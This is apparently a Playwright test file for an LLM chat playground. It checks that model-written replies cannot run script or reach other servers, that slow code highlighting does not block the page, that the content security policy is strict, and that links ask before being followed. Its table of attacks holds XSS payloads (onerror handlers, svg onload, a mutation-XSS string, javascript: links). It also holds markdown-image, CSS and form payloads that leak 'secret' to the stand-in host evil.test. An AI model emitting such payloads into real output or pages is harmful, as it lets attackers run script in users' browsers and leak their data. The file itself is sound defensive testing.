import { expect, type Page, test } from 'playwright/test'
import { openai } from '../../test/harness/server/openai.ts'
import { main } from '../page/browser.ts'
import { serveModel } from '../page/model-server.ts'
import { chooseLocalServer, quickPage, repeat, say, status } from '../page/playground-page.ts'

/** What a model may write to run a script in the page, or to carry words out of it. */
const attacks: Record<string, string> = {
  'image with a handler': '<img src=x onerror="window.hacked=1">',
  script: '<script>window.hacked=1</script>',
  svg: '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x dur=1s></svg>',
  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  srcdoc: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'script address': '[click](javascript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>) <javascript:window.hacked=1>',
  'inline image': '![x](https://evil.test/?q=secret)',
  'reference image': '![x][r]\n\n[r]: https://evil.test/?q=secret',
  'html image': '<img src="https://evil.test/a.png"> <video poster="https://evil.test/b.png"></video>',
  style: '<style>body{background:url(https://evil.test/c)}</style> <p style="background:url(https://evil.test/d)">x</p>',
  stylesheet: '<link rel=stylesheet href="https://evil.test/e.css"><meta http-equiv=refresh content="0;url=https://evil.test">',
  form: '<form action="https://evil.test"><input autofocus onfocus="window.hacked=1"></form>',
  code: '```html\n<img src=x onerror="window.hacked=1">\n```',
}

/** What a page asks of others than the server it came from, and those it may talk to. */
function outside(page: Page, ...known: string[]): string[] {
  const seen: string[] = []
  const own = [test.info().project.use.baseURL, ...known]
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (!own.includes(origin) && protocol !== 'data:') seen.push(request.url())
  })
  return seen
}

/** What stands in the transcript that could act. Runs in the page. */
function active(): unknown[] {
  const transcript = document.querySelector('.transcript')
  const found = transcript?.querySelectorAll('script,iframe,object,embed,style,link,meta,form,base,math,video,img:not([src^="data:"])')
  const handlers = [...(transcript?.querySelectorAll('*') ?? [])].flatMap((element) =>
    element.getAttributeNames().filter((each) => each.startsWith('on')),
  )
  return [Reflect.get(window, 'hacked') ?? 'safe', found?.length, handlers.length]
}

test('executes no model output and contacts no other server', async ({ page }) => {
  const texts = Object.values(attacks)
  await using model = await serveModel(openai, () => ({ text: [texts[model.requests.length - 1] ?? ''] }))
  const seen = outside(page, model.url)
  await page.goto('/')
  await chooseLocalServer(page, { address: `${model.url}/v1`, model: 'attacker' })
  const answers = page.getByTestId('message-assistant')
  for (const [at, name] of Object.keys(attacks).entries()) {
    await say(page, name)
    await expect(answers).toHaveCount(at + 1)
    await expect(answers.last()).toHaveAttribute('data-status', 'done')
    await expect(status(page)).toHaveAttribute('data-status', 'completed')
    expect([name, ...(await page.evaluate(active))]).toEqual([name, 'safe', 0, 0])
  }
  // They were rendered as markdown.
  await expect(answers.locator('pre')).not.toHaveCount(0)
  await expect(answers.getByText('evil.test').first()).toBeVisible()
  expect(await page.evaluate(active)).toEqual(['safe', 0, 0])
  expect(seen).toEqual([])
})

test('highlights slow code without blocking and highlights code after it', async ({ page }) => {
  const answers = ['const a = 1', 'aA'.repeat(9950), 'const b = 2'].map((code) => `\`\`\`ts\n${code}\n\`\`\``)
  await using model = await serveModel(openai, () => ({ text: [answers[model.requests.length - 1] ?? ''] }))
  await page.addInitScript(() => {
    const longTasks: number[] = []
    Object.assign(window, { longTasks })
    new PerformanceObserver((list) => longTasks.push(...list.getEntries().map(({ duration }) => duration))).observe({ type: 'longtask' })
  })
  await page.goto('/')
  await chooseLocalServer(page, { address: `${model.url}/v1`, model: 'coder' })
  const keywords = page.locator('.token-keyword', { hasText: 'const' })
  await say(page, 'One')
  await expect(keywords).toHaveCount(1)
  await say(page, 'Two')
  await expect(status(page)).toHaveAttribute('data-status', 'completed')
  await say(page, 'Three')
  await expect(keywords).toHaveCount(2)
  expect(await page.evaluate(() => Math.max(0, ...(Reflect.get(window, 'longTasks') as number[])))).toBeLessThan(2000)
})

test('blocks everything the page does not need by its content security policy', main, async ({ page }) => {
  await page.goto('/')
  const policy = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content')
  const rules = (policy ?? '').split('; ').map((rule) => rule.split(' '))
  expect(policy).not.toMatch(/unsafe-(?:eval|inline)/)
  // Only connections leave: to the services of the settings, each by its host, and to this machine.
  for (const [name, ...sources] of rules) {
    const foreign = name === 'connect-src' ? /^(?:\*|https?:|https?:\/\/\*(?:\.\w+)?)$/ : /https?:|\*/
    expect([name, sources.filter((source) => foreign.test(source))]).toEqual([name, []])
  }
  const refused = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const place = document.body.appendChild(document.createElement('div'))
    place.innerHTML = '<img src="https://evil.test/a.png"><p style="color:red">x</p><button onclick="window.hacked=1">x</button>'
    place.querySelector('button')?.click()
    await fetch('https://evil.test/').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 100))
    place.remove()
    return [Reflect.get(window, 'hacked'), ...new Set(violations)].sort()
  })
  expect(refused).toEqual(['connect-src', 'img-src', 'script-src-attr', 'style-src-attr', undefined])
})

test('shows the target of a link before following it', main, async ({ page, context }) => {
  const seen = outside(page)
  await page.goto(quickPage)
  await repeat(page, '[the weather](https://evil.test/?said=everything)')
  const link = page.getByTestId('message-assistant').getByRole('link')
  await expect(link).toHaveAttribute('rel', /noopener noreferrer/)
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(link).toContainText('evil.test')
  await link.click()
  const question = page.getByRole('dialog', { name: 'Leave the playground?' })
  await expect(question).toContainText('https://evil.test/?said=everything')
  await question.getByRole('button', { name: 'Stay' }).click()
  await link.click({ button: 'middle' })
  await expect(question).toBeVisible()
  expect(context.pages()).toHaveLength(1)
  expect(seen).toEqual([])
})
